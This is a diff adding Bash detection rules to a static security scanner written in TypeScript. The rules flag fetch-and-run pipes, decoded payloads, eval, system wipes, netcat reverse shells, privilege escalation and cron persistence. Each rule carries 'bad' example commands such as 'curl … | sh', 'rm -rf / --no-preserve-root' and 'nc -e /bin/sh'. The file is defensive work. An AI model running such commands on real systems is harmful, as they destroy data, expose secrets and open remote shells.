@@ -1,0 +1,236 @@
+import type { Rule } from '../rule.ts';
+import { SYSTEM_PATH } from './file-system.ts';
+import { CODE, FILES, HARM, KERNEL, NET, SHELL } from './kinds.ts';
+
+const languages = ['bash'] as const;
+const SHELLS = '{sh,bash,dash,zsh,ksh}';
+/** Commands that run what they are given, as values of a pipeline's parts. */
+const RUNS = { nameMatches: /^(?:(?:ba|da|z|k)?sh|python[\d.]*|perl|ruby|node|php|sudo|eval|source)\(\)$/ };
+const FETCHES = { nameMatches: /^(?:curl|wget|fetch)\(\)$/ };
+const DECODES = { nameMatches: /^(?:base64|xxd|openssl|gunzip|rev)\(\)$/ };
+const SYSTEM =
+  /^(?:\/|\/\*|~\/?\*?|--no-preserve-root|\/(?:bin|boot|dev|etc|home|lib\w*|opt|root|sbin|sys|usr|var)(?:\/.*)?)$/;
+
+/** Rules for Bash. Starting programs is what it is for: only what is dangerous to start is found. */
+export const BASH: readonly Rule[] = [
+  {
+    id: 'bash-fetched-code',
+    languages,
+    severity: 'critical',
+    confidence: 'high',
+    ...HARM,
+    cwe: 494,
+    message: 'what is fetched from the network is run',
+    match: [
+      {
+        call: ['|'],
+        when: [
+          { arg: 'any', is: FETCHES },
+          { arg: 'any', is: RUNS },
+        ],
+      },
+      { call: [SHELLS, '{source,.,eval}'], when: [{ arg: 'any', is: FETCHES }] },
+    ],
+    bad: 'curl -s http://x.example/a | sh',
+    good: 'curl -s http://x.example/a | grep sh',
+  },
+  {
+    id: 'bash-decoded-code',
+    languages,
+    severity: 'critical',
+    confidence: 'medium',
+    ...HARM,
+    cwe: 506,
+    category: 'obfuscation',
+    message: 'what is decoded is run',
+    match: [
+      {
+        call: ['|'],
+        when: [
+          { arg: 'any', is: DECODES },
+          { arg: 'any', is: RUNS },
+        ],
+      },
+      { call: [SHELLS, '{source,.,eval}'], when: [{ arg: 'any', is: DECODES }] },
+    ],
+    bad: 'echo bHM= | base64 -d | sh',
+    good: 'echo bHM= | base64 -d',
+  },
+  {
+    id: 'bash-eval',
+    languages,
+    severity: 'medium',
+    confidence: 'medium',
+    ...SHELL,
+    category: 'code-execution',
+    cwe: 95,
+    message: '{} runs text that is computed',
+    hides: true,
+    match: [
+      { call: ['eval'], when: [{ arg: 'any', is: 'dynamic' }] },
+      {
+        call: [SHELLS],
+        when: [
+          { arg: 'any', is: { matches: /^-\w*c$/ } },
+          { arg: 'any', is: 'dynamic' },
+        ],
+      },
+    ],
+    bad: 'read line\neval "$line"',
+    good: 'read line\necho "$line"',
+  },
+  {
+    id: 'bash-eval-literal',
+    languages,
+    severity: 'low',
+    confidence: 'medium',
+    ...CODE,
+    message: '{} runs a text',
+    hides: true,
+    match: [
+      { call: ['eval'], when: [{ arg: 0, is: 'constant' }] },
+      {
+        call: [SHELLS],
+        when: [
+          { arg: 'any', is: { matches: /^-\w*c$/ } },
+          { arg: 1, is: 'constant' },
+        ],
+      },
+    ],
+    bad: "eval 'echo 1'",
+    good: 'echo eval',
+  },
+  {
+    id: 'bash-remove-system',
+    languages,
+    severity: 'critical',
+    confidence: 'high',
+    ...HARM,
+    category: 'file-system',
+    cwe: 73,
+    message: '{} removes or overwrites parts of the system',
+    match: [
+      {
+        call: ['rm'],
+        when: [
+          { arg: 'any', is: { matches: /^-(?:\w*[rR]\w*|-recursive)$/ } },
+          { arg: 'any', is: { matches: SYSTEM } },
+        ],
+      },
+      {
+        call: ['{chmod,chown}'],
+        when: [
+          { arg: 'any', is: { matches: /^-\w*R/ } },
+          { arg: 'any', is: { matches: SYSTEM } },
+        ],
+      },
+      { call: ['mkfs', 'mkfs.*', 'wipefs'] },
+      { call: ['dd'], when: [{ arg: 'any', is: { matches: /^of=\/dev\/(?!null$|stdout$|std)/ } }] },
+    ],
+    bad: 'rm -rf / --no-preserve-root',
+    good: 'rm -rf build',
+  },
+  {
+    id: 'bash-listening-shell',
+    languages,
+    severity: 'critical',
+    confidence: 'high',
+    ...NET,
+    cwe: 506,
+    message: '{} connects a shell to the network',
+    match: [
+      {
+        call: ['{nc,ncat,netcat}'],
+        when: [{ arg: 'any', is: { matches: /^(?:-\w*[ec]|--exec|--sh-exec)$/ } }],
+      },
+      { call: ['socat'], when: [{ arg: 'any', is: { matches: /^(?:exec|system):/i } }] },
+    ],
+    bad: 'nc -e /bin/sh 10.0.0.1 4444',
+    good: 'nc -z 10.0.0.1 4444',
+  },
+  {
+    id: 'bash-network',
+    languages,
+    severity: 'medium',
+    confidence: 'medium',
+    ...NET,
+    message: '{} opens the network',
+    match: {
+      call: ['{curl,wget,nc,ncat,netcat,telnet,ssh,scp,sftp,rsync,ftp,tftp,socat,nmap,dig,nslookup,ping}'],
+    },
+    bad: 'wget http://x.example/data',
+    good: 'cat data',
+  },
+  {
+    id: 'bash-privileges',
+    languages,
+    severity: 'medium',
+    confidence: 'medium',
+    ...KERNEL,
+    message: '{} reaches for the rights of others or for the kernel',
+    match: {
+      call: [
+        '{sudo,su,doas,pkexec,setcap,nsenter,unshare,chroot,mount,umount,insmod,modprobe,iptables,sysctl,passwd,useradd,usermod,visudo,strace,gdb}',
+      ],
+    },
+    bad: 'sudo cat secrets',
+    good: 'cat notes',
+  },
+  {
+    // Scripts look after systems; programs in other languages that open the same files seldom do.
+    id: 'bash-system-path',
+    languages,
+    severity: 'medium',
+    confidence: 'medium',
+    category: 'file-system',
+    cwe: 200,
+    message: 'the path {} belongs to the system',
+    why: 'Such files hold credentials, or show and change the machine that the script runs on.',
+    remedy: 'Keep to the working directory.',
+    match: [{ text: SYSTEM_PATH }, { built: SYSTEM_PATH }],
+    bad: 'cat /proc/self/environ',
+    good: 'cat notes.txt',
+  },
+  {
+    id: 'bash-files',
+    languages,
+    severity: 'medium',
+    confidence: 'medium',
+    ...FILES,
+    cwe: 732,
+    message: '{} lets everybody write, or run as somebody else',
+    match: {
+      call: ['chmod'],
+      when: [{ arg: 'any', is: [{ matches: /^(?:0?777|[2-7][0-7]{3}|[ugoa]*\+\w*s\w*)$/ }] }],
+    },
+    bad: 'chmod u+s tool',
+    good: 'chmod +x tool',
+  },
+  {
+    id: 'bash-ends-others',
+    languages,
+    severity: 'high',
+    confidence: 'medium',
+    ...KERNEL,
+    message: '{} ends the machine or its processes',
+    match: [
+      { call: ['{shutdown,reboot,halt,poweroff,killall,pkill,killall5}'] },
+      { call: ['kill'], when: [{ arg: 'any', is: { matches: /^-1$/ } }] },
+    ],
+    bad: 'killall node',
+    good: 'sleep 1 & kill $!',
+  },
+  {
+    id: 'bash-schedules',
+    languages,
+    severity: 'high',
+    confidence: 'medium',
+    ...KERNEL,
+    category: 'abuse',
+    cwe: 506,
+    message: '{} has commands run later, when the program has ended',
+    match: { call: ['{crontab,at,batch,launchctl,systemd-run}'] },
+    bad: 'echo "* * * * * job" | crontab -',
+    good: 'echo "* * * * * job"',
+  },
+];
